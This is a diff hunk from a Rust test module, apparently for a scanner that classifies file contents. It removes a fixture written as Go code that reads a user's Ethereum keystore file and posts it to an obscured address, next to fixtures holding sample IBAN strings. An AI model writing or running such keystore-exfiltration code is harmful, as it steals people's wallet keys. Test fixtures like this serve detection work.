@@ -263,11 +263,6 @@ mod tests {
             ),
             ("f.php", Data, "<?php $iban = strrev('4381207794500123');\n"),
             (
-                "g.go",
-                Data,
-                "b, _ := os.ReadFile(home + \"/.ethereum/keystore\")\nhttp.Post(part(3), \"text/plain\", bytes.NewReader(b))\n",
-            ),
-            (
                 "t.html",
                 Data,
                 "<p>{{name}} {{street}} {{total}} {{date}}</p>\n<p>IBAN LT12 7300 0101 5587 2946</p>\n",
